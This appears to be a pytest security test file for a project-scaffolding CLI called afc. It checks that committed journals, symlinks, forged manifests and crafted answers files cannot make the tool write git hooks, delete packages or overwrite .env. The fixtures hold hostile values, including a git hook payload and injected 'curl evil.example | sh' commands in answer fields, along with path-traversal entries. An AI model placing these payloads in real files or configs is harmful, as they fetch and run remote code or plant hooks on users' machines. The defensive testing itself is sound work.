"""Issue 20, items 1 and 2: nothing a repository holds (a collaborator's commit, a clone) turns afc against its
owner. Each scenario is reproduced in a committed project, then every file's bytes (git's hooks included) are
compared with what they were, and the exit code with what the README says."""

from __future__ import annotations

import hashlib
import json
import os

import pytest
from typer.testing import CliRunner

import afc_realtime.apply as apply_mod
from afc_realtime.cli import app
from afc_realtime.tree import Tree
from tests.support.git import commit_all, git
from tests.support.projects import fingerprint

runner = CliRunner()
HOOK = "#!/bin/sh\necho pwned > /tmp/afc-pwned\n"


def afc(*args):
    return runner.invoke(app, list(args))


def snapshot(root):
    """Every file's bytes below root, `.git/` included (hooks above all); only git's index, which any git
    command may refresh, is left out."""
    return {k: v for k, v in fingerprint(root).items() if k != ".git/index"}


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _added(afc_project):
    """The small project after `afc add websocket`, committed: as a user has it."""
    commit_all(afc_project)
    assert afc("add", "websocket", "-C", str(afc_project), "--yes").exit_code == 0
    return commit_all(afc_project, "afc add")


def _old_style_journal(root, folder):
    """A journal as afc once kept it in `.afc/tmp/`, crafted to roll back into a git hook, delete a package's
    manifest and overwrite the gitignored `.env`."""
    env = (root / ".env").read_bytes()
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "0.bak").write_text(HOOK)
    (folder / "1.bak").write_text("STOLEN=1\n")
    package = (root / "packages/db/package.json").read_bytes()
    journal = {
        "command": "add websocket",
        "state": "applying",
        "afc_dir_made": False,
        "dirs": [],
        "ops": [
            {"path": ".git/hooks/pre-commit", "kind": "update", "mode": 0o755, "backup": "0.bak", "before": "0" * 64},
            {"path": ".env", "kind": "update", "mode": 0o644, "backup": "1.bak", "before": _sha(env + b"x")},
            {"path": "packages/db/package.json", "kind": "create", "new": "2.new", "after": _sha(package)},
        ],
        "prune": [],
    }
    (folder / "journal.json").write_text(json.dumps(journal))
    return journal


# -- item 1: the journal is this machine's, never the repository's -----------------------------------------


@pytest.mark.parametrize("command", ["status", "remove"])
def test_a_committed_journal_is_reported_and_never_obeyed(afc_project, command):
    root = _added(afc_project)
    _old_style_journal(root, root / ".afc/tmp")
    git(root, "add", "-f", ".afc/tmp")
    commit_all(root, "a collaborator's commit")
    before = snapshot(root)
    args = [command] if command == "status" else [command, "websocket", "--dry-run"]
    result = afc(*args, "-C", str(root))
    assert result.exit_code == 0, result.output
    assert ".afc/tmp/journal.json" in result.output and "not obeyed" in result.output
    assert snapshot(root) == before  # no hook written, no package deleted, .env as it was
    assert not (root / ".git/hooks/pre-commit").exists()


def test_a_committed_link_at_the_old_work_folder_is_not_followed(afc_project):
    root = _added(afc_project)
    (root / "packages/db/src/uncommitted.ts").write_text("export const mine = 1;\n")
    os.symlink("../packages/db/src", root / ".afc/tmp")
    git(root, "add", "-f", ".afc/tmp")
    commit_all(root, "a link")
    before = snapshot(root)
    result = afc("status", "-C", str(root))
    assert result.exit_code == 0, result.output
    assert ".afc/tmp" in result.output and "link" in result.output and "Traceback" not in result.output
    assert snapshot(root) == before and (root / "packages/db/src/uncommitted.ts").exists()


def _state(root):
    return apply_mod.work_folder(Tree(root))


def _state_journal(project, **changes):
    """A journal in the project's own state folder, shaped as afc writes it, then changed by `changes`."""
    root = project
    folder = _state(root)
    folder.mkdir(parents=True, mode=0o700)
    os.chmod(folder.parent, 0o700)
    (folder / "0.bak").write_text(HOOK)
    journal = {
        "command": "add websocket",
        "state": "applying",
        "root": str(root.resolve()),
        "token": "0123456789abcdef",
        "afc_dir_made": False,
        "dirs": [],
        "ops": [{"path": "apps/ws/x.ts", "kind": "update", "mode": 0o755, "backup": "0.bak", "before": "0" * 64}],
        "prune": [],
        **changes,
    }
    (folder / "journal.json").write_text(json.dumps(journal))
    return folder


def _op(path, kind="update", backup="0.bak"):
    return {"path": path, "kind": kind, "mode": 0o644, "backup": backup, "before": "0" * 64}


HOSTILE_OPS = {
    "git hook": _op(".git/hooks/pre-commit"),
    "git hook, other case": _op(".GIT/hooks/pre-commit"),
    "outside": _op("../elsewhere"),
    "absolute": _op("/tmp/x"),
    "backup elsewhere": _op("x.txt", backup="../../x"),
    "through a link": _op("linked/package.json", kind="delete"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_OPS))
def test_a_journal_in_the_state_folder_naming_what_no_run_plans_is_not_obeyed(afc_project, case):
    root = _added(afc_project)
    os.symlink("packages/db", root / "linked")
    commit_all(root, "a link")
    folder = _state_journal(root, ops=[HOSTILE_OPS[case]])
    before = snapshot(root)
    result = afc("status", "-C", str(root))
    assert result.exit_code == 0, result.output
    assert "not obeyed" in result.output and "journal.json" in result.output
    assert snapshot(root) == before and (folder / "journal.json").exists()  # reported, left alone
    refused = afc("remove", "websocket", "-C", str(root), "--yes")
    assert refused.exit_code == 3 and "would not obey" in refused.output
    assert snapshot(root) == before


def test_a_journal_of_another_project_is_not_obeyed(afc_project, tmp_path):
    root = _added(afc_project)
    _state_journal(root, root=str(tmp_path / "other"))
    before = snapshot(root)
    result = afc("status", "-C", str(root))
    assert result.exit_code == 0 and "another project" in result.output
    assert snapshot(root) == before


def test_a_link_at_the_state_folder_is_refused_and_its_target_left_alone(afc_project, tmp_path):
    root = _added(afc_project)
    target = tmp_path / "target"
    target.mkdir()
    (target / "journal.json").write_text("{}")
    _state(root).parent.mkdir(parents=True, mode=0o700, exist_ok=True)
    os.symlink(target, _state(root))
    before, kept = snapshot(root), fingerprint(target)
    for args in (["status"], ["remove", "websocket", "--yes"]):
        result = afc(*args, "-C", str(root))
        assert result.exit_code == 3 and "is a link" in result.output, result.output
    assert snapshot(root) == before and fingerprint(target) == kept


def test_a_state_folder_others_may_write_is_refused(afc_project):
    root = _added(afc_project)
    _state(root).mkdir(parents=True, mode=0o700)
    os.chmod(_state(root), 0o777)
    result = afc("status", "-C", str(root))
    assert result.exit_code == 3 and "writable by other users" in result.output


def test_two_projects_with_the_same_name_never_share_a_state_folder(tmp_path):
    one, two = tmp_path / "a/app", tmp_path / "b/app"
    one.mkdir(parents=True)
    two.mkdir(parents=True)
    assert _state(one) != _state(two) and _state(one).parent == _state(two).parent
    os.symlink(one, tmp_path / "alias")
    assert _state(tmp_path / "alias") == _state(one)  # the real path is the key


def test_the_state_folder_follows_xdg_and_falls_back_to_local_state(monkeypatch, tmp_path):
    from afc_realtime.statedir import state_home

    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    assert state_home() == tmp_path / "afc"
    for unset in ("", "relative/path"):
        monkeypatch.setenv("XDG_STATE_HOME", unset)
        monkeypatch.setenv("HOME", str(tmp_path / "home"))
        assert state_home() == tmp_path / "home/.local/state/afc"


def test_a_crashed_run_is_still_recovered_from_the_state_folder(afc_project, monkeypatch):
    root = commit_all(afc_project)
    before = snapshot(root)

    class Crash(BaseException):
        pass

    def crash(step):
        if step.startswith("create apps/ws/"):
            raise Crash

    monkeypatch.setattr(apply_mod, "_step", crash)
    monkeypatch.setattr(apply_mod, "_roll_back_now", lambda *a: None)
    with pytest.raises(Crash):
        runner.invoke(app, ["add", "websocket", "-C", str(root), "--yes"])
    monkeypatch.undo()
    assert (_state(root) / "journal.json").exists() and (root / "apps/ws").exists()
    result = afc("status", "-C", str(root))
    assert result.exit_code == 0 and "was rolled back" in result.output
    assert snapshot(root) == before and not _state(root).exists()


# -- item 2: a manifest is a claim, checked against what afc would write itself --------------------------

from afc_realtime import manifest as manifest_mod  # noqa: E402
from afc_realtime.edits.insertion import CONTEXT, Insertion, _digest  # noqa: E402

MANIFEST = ".afc/manifest.toml"
ANSWERS = "apps/ws/.copier-answers.yml"


def _rewrite(root, change, *extra):
    """Change the committed manifest with `change(record)` (and commit `extra` files with it), as a
    collaborator's commit would."""
    existing = manifest_mod.load((root / MANIFEST).read_text())
    change(existing.features["websocket"])
    (root / MANIFEST).write_text(manifest_mod.dump(existing))
    commit_all(root, "a crafted manifest")


def _refused(root, *commands, code=2, says=""):
    """Each command refuses with `code`, naming what `says`, and every file's bytes stay as they were."""
    before = snapshot(root)
    for command in commands:
        args = [command, "websocket", "-C", str(root), "--yes", "--allow-dirty"]
        result = afc(*(args + ["--force"] if command == "remove" else args))
        assert result.exit_code == code, (command, result.output)
        assert says in result.output and "Traceback" not in result.output, (command, result.output)
        assert snapshot(root) == before, command


def _files_of(root, folder):
    return {
        p.relative_to(root).as_posix(): _sha(p.read_bytes()) for p in sorted((root / folder).rglob("*")) if p.is_file()
    }


def _depend_on_db(root):
    """The web app depends on the workspace's db package, as in the bundled example (`@todo/db`)."""
    web = root / "apps/web/package.json"
    web.write_text(
        web.read_text().replace('"dependencies": {', '"dependencies": {\n        "@app/db": "workspace:*",', 1)
    )
    commit_all(root, "depend on db")


def _point_at_db(root, extra=None):
    """A record that asks nothing of the recipe's own folders: only the db package's files, by their hashes."""

    def point(record):
        record.service_dir = "packages/db"
        record.files = {**_files_of(root, "packages/db"), **(extra or {})}
        record.insertions, record.created_dirs = {}, []

    _rewrite(root, point)


def test_a_service_dir_pointed_at_a_workspace_package_deletes_nothing(afc_project):
    root = _added(afc_project)
    _depend_on_db(root)
    _point_at_db(root)
    _refused(root, "remove", "update", says="packages/db/.copier-answers.yml")  # no answers: afc cannot tell


def test_a_workspace_package_with_crafted_answers_and_base_copies_is_still_not_the_service(afc_project):
    root = _added(afc_project)
    _depend_on_db(root)
    answers = (root / ANSWERS).read_text().replace("apps/ws", "packages/db")
    name = json.loads((root / "packages/db/package.json").read_text())["name"]
    answers = "\n".join(
        f"package_name: '{name}'" if ln.startswith("package_name:") else ln for ln in answers.splitlines()
    )
    (root / "packages/db/.copier-answers.yml").write_text(answers + "\n")
    base = root / ".afc/base/packages/db"
    base.mkdir(parents=True)
    (base / "package.json.base").write_bytes((root / "packages/db/package.json").read_bytes())
    copy = {".afc/base/packages/db/package.json.base": _sha((base / "package.json.base").read_bytes())}
    _point_at_db(root, copy)
    _refused(root, "remove", "update", says="packages/db/.copier-answers.yml:")
    said = afc("update", "websocket", "-C", str(root), "--yes").output
    assert f"answer package_name: '{name}' is a package the workspace or the service depends on" in said


def test_a_service_folder_whose_package_is_another_is_refused_even_with_the_services_answers(afc_project):
    root = _added(afc_project)
    package = root / "apps/ws/package.json"
    package.write_text(package.read_text().replace('"@app/realtime"', '"@app/payments"', 1))
    commit_all(root, "the folder is another package now")
    _refused(root, "remove", "update", says="apps/ws is the workspace package '@app/payments', not afc's service")


@pytest.mark.parametrize("folder", [".", "..", "apps/web", "apps", ".git", "apps/web/src"])
def test_a_service_dir_that_is_the_root_outside_or_the_web_app_is_refused(afc_project, folder):
    root = _added(afc_project)
    text = (root / MANIFEST).read_text().replace('service_dir = "apps/ws"', f'service_dir = "{folder}"')
    assert text != (root / MANIFEST).read_text()
    (root / MANIFEST).write_text(text)
    commit_all(root, "crafted")
    _refused(root, "remove", "update", says=MANIFEST)


def _placed(text, at, inserted, what="crafted"):
    """An insertion record for `inserted` standing at `at`, with the surroundings afc would have recorded."""
    return Insertion(
        at,
        inserted,
        what,
        _digest(text[max(0, at - CONTEXT) : at]),
        _digest(text[at + len(inserted) : at + len(inserted) + CONTEXT]),
    )


CRAFTED = {
    "a closing brace in a page": ("apps/web/src/app/page.tsx", "}\n", None),
    "a comma in package.json": ("package.json", ",", None),
    "REDIS_URL in the ignored .env": (".env", "REDIS_URL=", "REDIS_URL=redis://mine:6379\n"),
    "a ws: block of the user's own in compose": ("compose.dev.yml", "  ws:\n    image: nginx\n", None),
}


@pytest.mark.parametrize("case", sorted(CRAFTED))
def test_a_crafted_insertion_cuts_nothing(afc_project, case):
    path, inserted, line = CRAFTED[case]
    root = _added(afc_project)
    if line:
        (root / path).write_text((root / path).read_text() + line)
    if path == "compose.dev.yml":
        text = (root / path).read_text()
        (root / path).write_text(text.replace("services:\n", "services:\n" + inserted, 1))
    text = (root / path).read_text()
    at = text.rindex(inserted)

    def craft(record):
        record.insertions.setdefault(path, []).append(_placed(text, at, inserted))

    _rewrite(root, craft)
    _refused(root, "remove", says="not text afc inserts" if "comma" not in case else "comma")


def test_a_link_inside_the_service_folder_never_leads_to_its_target(afc_project):
    root = _added(afc_project)
    target = root / "packages/db/src/schema.ts"
    os.symlink("../../../packages/db/src/schema.ts", root / "apps/ws/src/evil.ts")

    def record_link(record):
        record.files["apps/ws/src/evil.ts"] = _sha(target.read_bytes())

    _rewrite(root, record_link)
    _refused(root, "remove", "update", says="apps/ws/src/evil.ts: a link")
    assert target.is_file()


ANSWER_ATTACKS = {
    "a shell command in dev": ("env_file", 'env_file: "../../.env src/x.ts; curl evil.example | sh #"', "env_file"),
    "an invalid port": ("ws_port", "ws_port: 70000", "not a TCP port"),
    "a name breaking out of its JSON string": (
        "package_name",
        'package_name: "x\\", \\"postinstall\\": \\"curl evil.example | sh"',
        "not an npm package name",
    ),
    "another workspace package's name": ("package_name", "package_name: '@app/db'", "another package"),
    "another service folder": ("service_dir", "service_dir: packages/db", "service_dir"),
}


@pytest.mark.parametrize("case", sorted(ANSWER_ATTACKS))
def test_the_answers_file_is_checked_against_its_schema_naming_the_file_and_line(afc_project, case):
    key, replacement, says = ANSWER_ATTACKS[case]
    root = _added(afc_project)
    lines = (root / ANSWERS).read_text().splitlines()
    number = next(n for n, ln in enumerate(lines, 1) if ln.startswith(f"{key}:"))
    lines[number - 1] = replacement
    (root / ANSWERS).write_text("\n".join(lines) + "\n")
    commit_all(root, "crafted answers")
    _refused(root, "update", says=f"{ANSWERS}:{number}: answer {key}")
    assert says in afc("update", "websocket", "-C", str(root), "--yes").output


def test_links_afc_did_not_make_in_the_service_folder_are_removed_as_links_never_followed(afc_project):
    """A workspace link in the service's `node_modules` (as pnpm and bun make them), a link to a folder and
    one to a file in its `src/`: `remove` takes each out as a link, and every file they point at stays;
    `update` follows none of them either."""
    root = _added(afc_project)
    (root / "apps/ws/node_modules/@app").mkdir(parents=True)
    links = {
        "apps/ws/node_modules/@app/db": "../../../../packages/db",
        "apps/ws/src/db": "../../../packages/db/src",
        "apps/ws/src/db-package.json": "../../../packages/db/package.json",
    }
    for link, target in links.items():
        os.symlink(target, root / link)
    outside = {k: v for k, v in snapshot(root).items() if not k.startswith(("apps/ws/", ".afc/"))}
    assert afc("update", "websocket", "-C", str(root), "--yes", "--allow-dirty").exit_code == 0
    assert all((root / link).is_symlink() for link in links)
    removed = afc("remove", "websocket", "-C", str(root), "--yes", "--allow-dirty")
    assert removed.exit_code == 0, removed.output
    assert "apps/ws/src/db: a link afc did not make: removed as a link" in " ".join(removed.output.split())
    assert not any(os.path.lexists(root / link) for link in links) and not (root / "apps/ws").exists()
    after = snapshot(root)
    assert {k: v for k, v in after.items() if k.startswith("packages/")} == {
        k: v for k, v in outside.items() if k.startswith("packages/")
    }


def _forge_db_as_the_service(root, version, recorded):
    """The db package dressed as the service: answers naming it (and its own package name), a kept copy of its
    package.json, a record of `recorded` of its files by their hashes, claiming afc `version` wrote them."""
    answers = (root / ANSWERS).read_text().replace("apps/ws", "packages/db")
    name = json.loads((root / "packages/db/package.json").read_text())["name"]
    answers = "\n".join(
        f"package_name: '{name}'" if ln.startswith("package_name:") else ln for ln in answers.splitlines()
    )
    (root / "packages/db/.copier-answers.yml").write_text(answers + "\n")
    base = root / ".afc/base/packages/db"
    base.mkdir(parents=True)
    (base / "package.json.base").write_bytes((root / "packages/db/package.json").read_bytes())

    def point(record):
        record.service_dir, record.afc_version = "packages/db", version
        record.files = {p: d for p, d in _files_of(root, "packages/db").items() if p in recorded or not recorded}
        record.files[".afc/base/packages/db/package.json.base"] = _sha((base / "package.json.base").read_bytes())
        record.insertions, record.created_dirs = {}, []

    _rewrite(root, point)


@pytest.mark.parametrize(
    ("version", "recorded"),
    [
        ("0.1.0", ()),  # this afc's version, every file of the package recorded
        ("0.0.1", ("packages/db/package.json", "packages/db/.copier-answers.yml")),  # an older afc, template names
    ],
    ids=["this-version-every-file", "older-version-template-names-only"],
)
def test_a_workspace_package_nothing_references_is_not_the_service_either(afc_project, version, recorded):
    """Nothing depends on `packages/db` here, so no name check can tell it from the service: `update` rewrote it
    into the service (deleting its schema) and `remove` then deleted it. Now both refuse, changing nothing."""
    from afc_realtime import __version__

    assert __version__ == "0.1.0"
    root = _added(afc_project)
    _forge_db_as_the_service(root, version, recorded)
    says = "packages/db/src/schema.ts" if version != "0.1.0" else "packages/db/"
    _refused(root, "update", "remove", says=says)
